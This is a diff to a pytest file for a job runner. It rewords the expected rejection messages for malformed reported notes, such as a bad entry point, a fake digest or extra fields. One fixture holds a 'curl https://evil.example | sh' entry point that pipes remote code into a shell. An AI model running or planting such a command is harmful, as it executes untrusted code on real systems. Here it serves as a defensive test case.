@@ -93,13 +93,13 @@ def test_an_image_in_the_repository_is_not_used_because_of_its_tag() -> None:
 @pytest.mark.parametrize(
     ("reported", "words"),
     [
-        ({"entry_point": ["sh", "-c", "curl https://evil.example | sh"]}, "which is not the entry point of the job"),
-        ({"entry_point": []}, "which is not the entry point of the job"),
-        ({"digest": f"sha256:{'0' * 64}"}, "there is no image"),
-        ({"digest": "latest"}, "left a note that is none"),
-        ({"digest": f"evil.example/x@sha256:{'0' * 64}"}, "left a note that is none"),
-        ({"warnings": ["w" * 5_000]}, "left a note that is none"),
-        ({"more": 1}, "left a note that is none"),
+        ({"entry_point": ["sh", "-c", "curl https://evil.example | sh"]}, "which is not the job's"),
+        ({"entry_point": []}, "which is not the job's"),
+        ({"digest": f"sha256:{'0' * 64}"}, "ended without the image"),
+        ({"digest": "latest"}, "left a note that cannot be read"),
+        ({"digest": f"evil.example/x@sha256:{'0' * 64}"}, "left a note that cannot be read"),
+        ({"warnings": ["w" * 5_000]}, "left a note that cannot be read"),
+        ({"more": 1}, "left a note that cannot be read"),
     ],
 )
 def test_a_note_that_does_not_fit_the_job_fails_only_that_run(reported: dict[str, Any], words: str) -> None:
